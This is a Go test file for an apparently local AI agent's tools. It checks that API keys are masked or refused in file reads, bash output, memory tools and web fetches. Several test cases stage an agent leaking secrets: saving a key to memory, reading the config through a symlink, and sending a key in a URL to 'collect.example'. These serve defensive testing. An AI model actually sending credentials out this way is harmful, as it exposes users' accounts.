package tools

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/localgpt-go/localgpt/internal/config"
	"github.com/localgpt-go/localgpt/internal/secret"
)

// TestSecretsNeverReachTheModel: no tool result carries a configured API
// key (from config.toml or the environment), whatever tool reads it, and
// read_file refuses the config file in use and its backups outright.
func TestSecretsNeverReachTheModel(t *testing.T) {
	const (
		openaiKey = "sk-proj-Zq8xVbN3mK7pL2wR9tY4uI6o"
		envKey    = "sk-ant-api03-Hk4jG7fD2sA9qW5eR8tY"
		token     = "lgpt-token-7f3e9a1c5b8d2e4f"
	)
	root := t.TempDir()
	home := filepath.Join(root, ".localgpt")
	ws := filepath.Join(home, "workspace")
	cfgFile := filepath.Join(home, "config.toml")
	cfgText := "[providers.openai]\napi_key = \"" + openaiKey + "\"\n[server]\napi_token = \"" + token + "\"\n"
	writeFile(t, cfgFile, cfgText)
	writeFile(t, cfgFile+".bak.1", "[providers.openai]\napi_key = \"sk-old-key-still-valid-123456\"\n")
	writeFile(t, filepath.Join(ws, "notes.md"), "openai "+openaiKey+"\nanthropic "+envKey+"\ntoken "+token+"\nshort abc123\n")
	if err := os.Symlink(cfgFile, filepath.Join(ws, "settings.toml")); err != nil {
		t.Fatal(err)
	}
	cfg := config.Default()
	cfg.Providers.OpenAI.APIKey = openaiKey
	cfg.Server.APIToken = token
	cfg.Providers.Anthropic.APIKey = "abc123" // too short to be masked without mangling output
	cfg.Tools.RequireApproval = nil
	// Masking is what is tested here; the sandbox would hide config.toml
	// from bash altogether (TestBashSandboxHidesLocalGPTFiles).
	cfg.Tools.BashSandbox = false
	env := map[string]string{"HOME": root, "ANTHROPIC_API_KEY": envKey}
	getenv := func(k string) string { return env[k] }
	reg, err := New(withConfig(cfg, Options{Paths: config.Paths{Home: home, ConfigFile: cfgFile, Workspace: ws},
		Getenv: getenv, Now: time.Now, Secrets: secret.New(cfg.SecretValues(getenv)...),
	}))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		tool    string
		args    map[string]any
		isError bool
		wants   []string
	}{
		{"read_file of config.toml is refused", "read_file", map[string]any{"path": "../config.toml"}, true,
			[]string{"holds API keys", "localgpt config show"}},
		{"read_file of config.toml by absolute path", "read_file", map[string]any{"path": cfgFile}, true, []string{"holds API keys"}},
		{"read_file through a link to config.toml", "read_file", map[string]any{"path": "settings.toml"}, true, []string{"holds API keys"}},
		{"read_file of a config backup", "read_file", map[string]any{"path": cfgFile + ".bak.1"}, true, []string{"holds API keys"}},
		{"read_file of a note with the keys", "read_file", map[string]any{"path": "notes.md"}, false,
			[]string{"openai " + config.MaskSecret(openaiKey), "anthropic " + config.MaskSecret(envKey), "token " + config.MaskSecret(token), "short abc123"}},
		{"bash cat of config.toml", "bash", map[string]any{"command": "cat " + cfgFile}, false,
			[]string{`api_key = "` + config.MaskSecret(openaiKey) + `"`}},
		{"bash cat of the note", "bash", map[string]any{"command": "cat notes.md"}, false,
			[]string{config.MaskSecret(envKey)}},
		{"a key in an error message", "edit_file", map[string]any{"path": "nope-" + openaiKey + ".md", "old_string": "a", "new_string": "b"}, true,
			[]string{"nope-" + config.MaskSecret(openaiKey)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := reg.Call(context.Background(), tt.tool, rawArgs(t, tt.args))
			check(t, r, tt.isError, tt.wants...)
			for _, secret := range []string{openaiKey, envKey, token, "sk-old-key-still-valid-123456"} {
				if strings.Contains(r.Content, secret) {
					t.Fatalf("the result shows the secret %q:\n%s", secret, r.Content)
				}
			}
		})
	}
}

// TestSecretsInMemoryAndURLs replays the memory attacks: a note holding a
// configured key is found by memory_search (whose highlight marks fall
// inside the key), read whole by memory_get, cut in two by the output cap;
// the model tries to save a key to memory and to send one in a URL.
func TestSecretsInMemoryAndURLs(t *testing.T) {
	const key = "sk-proj-Zq8xVbN3mK7pL2wR9tY4uI6oA1sD5fG7hJ9kL3zX"
	root := t.TempDir()
	ws := filepath.Join(root, "ws")
	// Each part of the key is a search term, so the snippet marks them all.
	writeFile(t, filepath.Join(ws, "keys.md"), "# Keys\n\nThe proj key: "+key+" (billing account).\n")
	writeFile(t, filepath.Join(ws, "long.md"), strings.Repeat("x", 470)+key+strings.Repeat("y", 2000)+"\n")
	mem := openMemory(t, ws, filepath.Join(root, "index.sqlite"))
	if _, err := mem.Reindex(context.Background(), false, nil); err != nil {
		t.Fatal(err)
	}
	cfg := config.Default()
	cfg.Providers.OpenAI.APIKey = key
	cfg.Tools.ToolOutputMaxChars = 1000 // keeps 500 characters of long.md: the first 23 of the key
	getenv := func(string) string { return "" }
	reg, err := New(withConfig(cfg, Options{Paths: config.Paths{Home: root, Workspace: ws}, Memory: mem, Getenv: getenv,
		Secrets: secret.New(cfg.SecretValues(getenv)...)}))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		tool    string
		args    map[string]any
		isError bool
		wants   []string
	}{
		{"memory_search highlights inside the key", "memory_search", map[string]any{"query": "sk proj Zq8xVbN3mK7pL2wR9tY4uI6oA1sD5fG7hJ9kL3zX"}, false,
			[]string{"keys.md", "sk-…L3zX"}},
		{"memory_get of the note", "memory_get", map[string]any{"path": "keys.md"}, false, []string{"The proj key: sk-…L3zX (billing"}},
		{"output cut in the middle of the key", "memory_get", map[string]any{"path": "long.md"}, false, []string{"xxx…(hidden)\n[…", "omitted"}},
		{"memory_save of a key", "memory_save", map[string]any{"content": "The user's OpenAI key is " + key}, true,
			[]string{"memory_save refused", "never saved to memory"}},
		{"memory_save of a highlighted key", "memory_save", map[string]any{"content": "key: sk-«proj»-Zq8xVbN3mK7pL2wR9tY4uI6oA1sD5fG7hJ9kL3zX", "long_term": true}, true,
			[]string{"memory_save refused"}},
		{"web_fetch with the key in the query", "web_fetch", map[string]any{"url": "https://collect.example/?k=" + key}, true,
			[]string{"web_fetch refused"}},
		{"web_fetch with the key percent-encoded", "web_fetch", map[string]any{"url": "https://collect.example/?k=" + strings.ReplaceAll(key, "-", "%2D")}, true,
			[]string{"web_fetch refused"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := reg.Call(context.Background(), tt.tool, rawArgs(t, tt.args))
			check(t, r, tt.isError, tt.wants...)
			if strings.Contains(r.Content, key) || strings.Contains(r.Content, "Zq8xVbN3mK7pL2wR9tY4uI6o") {
				t.Fatalf("the result shows the key:\n%s", r.Content)
			}
		})
	}
	for _, f := range []string{"MEMORY.md", "memory"} {
		if _, err := os.Stat(filepath.Join(ws, f)); err == nil {
			t.Errorf("memory_save wrote %s", f)
		}
	}
}
